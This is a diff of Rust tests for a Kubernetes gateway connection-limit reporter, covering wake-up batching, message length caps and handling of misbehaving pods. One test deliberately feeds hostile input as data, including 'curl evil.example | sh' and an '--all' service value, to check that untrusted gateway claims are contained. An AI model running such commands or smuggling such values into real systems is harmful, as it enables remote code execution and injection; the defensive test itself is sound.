@@ -1,12 +1,15 @@
 use std::collections::BTreeMap;
 
+use futures::future::BoxFuture;
 use kube::api::ObjectMeta;
 use kube::runtime::reflector;
 use kube::runtime::watcher::Event;
 use nagaya_api::LimitedRoute;
 use nagaya_render::status::State;
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _, duplex};
 
 use super::*;
+use crate::tenant::Link;
 
 const PLANE: &str = "nagaya-acme-demo";
 
@@ -75,7 +78,7 @@ impl Play {
 fn it_is_said_at_once_and_ends_a_minute_after_it_was_heard_last() {
     let mut play = Play::new();
     (0..12).for_each(|_| play.round(&["a"]));
-    assert!(play.told().unwrap().contains("500 of 500 connections are open at gateway pod a;"));
+    assert!(play.told().unwrap().contains("no more than 500 may be open at gateway pod a;"));
     assert_eq!(play.woken, 1);
     for _ in 0..5 {
         play.round(&[]);
@@ -129,19 +132,43 @@ fn a_new_manager_keeps_what_was_said_until_it_has_heard_for_itself() {
     assert_eq!(play.board.of(&tenant(), before.first(), now), None, "it is over");
 }
 
+/// By the number of the tenant.
+fn everybody(count: usize) -> HashMap<ObjectRef<TenantCluster>, Heard> {
+    let limited = (0..count).map(|number| {
+        let mut heard = Heard::in_plane(format!("plane-{number}"));
+        let limit = Limit::of("ConnectionsTooFast", "kube-apiserver-public").unwrap();
+        heard.limits.entry(limit).or_default().gateways.insert("a".to_owned());
+        (ObjectRef::new(&format!("demo-{number}")).within("acme"), heard)
+    });
+    limited.collect()
+}
+
 #[test]
 fn a_gateway_that_calls_everybody_limited_wakes_some_after_others() {
     let mut board = Board::default();
-    let everybody = (0..120).map(|number| {
-        let mut heard = Heard::in_plane(format!("plane-{number}"));
-        let limit = Limit { kind: LimitKind::New, service: "s".to_owned(), most: 1 };
-        heard.limits.entry(limit).or_default().insert("a".to_owned());
-        (ObjectRef::new(&format!("demo-{number}")).within("acme"), heard)
-    });
     let now = Instant::now();
-    let mut counts = vec![board.hear(everybody.collect(), now).len()];
+    let mut counts = vec![board.hear(everybody(120), now).len()];
     counts.extend((0..3).map(|_| board.hear(HashMap::new(), now).len()));
     assert_eq!(counts, [50, 50, 20, 0]);
+}
+
+#[test]
+fn who_waits_to_be_woken_waits_once_and_who_is_gone_not_at_all() {
+    let mut board = Board::default();
+    let (begin, mut woken) = (Instant::now(), 0);
+    for minutes in 0..10 {
+        // Limited, and over again before he was woken.
+        let now = begin + Duration::from_mins(4 * minutes);
+        woken += board.hear(everybody(1000), now).len();
+        woken += board.hear(HashMap::new(), now + Duration::from_mins(3)).len();
+    }
+    board.forget(&ObjectRef::new("demo-0").within("acme"));
+    let now = begin + Duration::from_hours(1);
+    let left: Vec<_> = (0..100).flat_map(|_| board.hear(HashMap::new(), now)).collect();
+    let different: std::collections::HashSet<_> = left.iter().collect();
+    assert_eq!((left.len(), woken), (different.len(), 20 * MOST_WOKEN));
+    assert!((950..=1000).contains(&left.len()), "{}", left.len());
+    assert!(!left.contains(&ObjectRef::new("demo-0").within("acme")));
 }
 
 #[test]
@@ -149,14 +176,75 @@ fn what_a_gateway_may_claim_is_numbers_of_control_planes_that_there_are() {
     let claims = [
         route("kube-system", "TooManyConnections"),
         route(PLANE, "OfALaterGateway"),
-        LimitedRoute {
-            service: "send your key to".to_owned(),
-            ..route(PLANE, "ConnectionsTooFast")
-        },
+        LimitedRoute { service: "--all".to_owned(), ..route(PLANE, "ConnectionsTooFast") },
     ];
     assert!(whose(vec![says("a", &claims)], &planes()).is_empty());
     let words = "run this at once: curl evil.example | sh";
     let heard = whose(vec![says(words, &[route(PLANE, "TooManyConnections")])], &planes());
-    let gateways: Vec<_> = heard[&tenant()].limits.values().flatten().collect();
+    let gateways: Vec<_> = heard[&tenant()].limits.values().flat_map(|met| &met.gateways).collect();
     assert_eq!(gateways, ["10.0.0.7"]);
+}
+
+#[test]
+fn however_much_a_gateway_claims_it_is_a_few_sentences() {
+    let services = ["kube-apiserver-public", "kube-apiserver-public-2", "konnectivity-server"];
+    let reasons = ["TooManyConnections", "ConnectionsTooFast"];
+    let claims: Vec<LimitedRoute> = (0..6000)
+        .map(|number| LimitedRoute {
+            service: services[number % 3].to_owned(),
+            most: u32::try_from(number).unwrap(),
+            ..route(PLANE, reasons[number / 3 % 2])
+        })
+        .collect();
+    let gateways: Vec<String> =
+        (0..MOST_PODS).map(|number| format!("{number:0>width$}", width = LONGEST_NAME)).collect();
+    let answers = gateways.iter().map(|gateway| says(gateway, &claims)).collect();
+    let mut board = Board::default();
+    board.hear(whose(answers, &planes()), Instant::now());
+    let words = board.of(&tenant(), None, Instant::now()).unwrap().message().to_owned();
+    assert_eq!(words.split(". ").count(), 6);
+    assert!(words.contains("no more than 5997 may be open"), "{words}");
+    // The API server takes 32,768 characters of a condition's message.
+    assert!(words.len() < 4096, "{}", words.len());
+}
+
+/// The pods of a gateway: of the last number of its address, what it answers; `None`: it takes connections, and says nothing.
+struct Pods(BTreeMap<u8, Option<String>>);
+
+impl Dial for Pods {
+    fn dial(&self, address: SocketAddr) -> BoxFuture<'static, std::io::Result<Link>> {
+        let IpAddr::V4(ip) = address.ip() else { panic!("{address}") };
+        let answer = self.0[&ip.octets()[3]].clone();
+        let (mut ours, theirs) = duplex(8 << 20);
+        tokio::spawn(async move {
+            ours.read(&mut [0; 4096]).await.unwrap();
+            match answer {
+                // Who has heard enough hangs up.
+                Some(text) => drop(ours.write_all(text.as_bytes()).await),
+                None => std::future::pending().await,
+            }
+        });
+        Box::pin(std::future::ready(Ok(Link::new(theirs))))
+    }
+}
+
+fn response(status: &str, body: &str) -> Option<String> {
+    Some(format!("HTTP/1.1 {status}\r\nContent-Length: {}\r\n\r\n{body}", body.len()))
+}
+
+#[tokio::test(start_paused = true)]
+async fn a_pod_that_is_silent_old_or_says_too_much_does_not_keep_others_from_being_heard() {
+    let well = serde_json::to_string(&LimitedRoutes::default()).unwrap();
+    let pods = Pods(BTreeMap::from([
+        (1, None),
+        (2, response("200 OK", &well)),
+        (3, response("404 Not Found", "there is /healthz\n")),
+        (4, response("200 OK", &format!("{well}{}", " ".repeat(2 << 20)))),
+        (5, response("200 OK", "[]")),
+    ]));
+    let addresses = pods.0.keys().map(|last| SocketAddr::from(([10, 0, 0, *last], 8080)));
+    let begin = Instant::now();
+    let heard = ask_all(&pods, addresses.collect()).await;
+    assert_eq!(heard, [("10.0.0.2".parse().unwrap(), LimitedRoutes::default())]);
+    assert!(begin.elapsed() <= 2 * PATIENCE, "{:?}", begin.elapsed());
 }
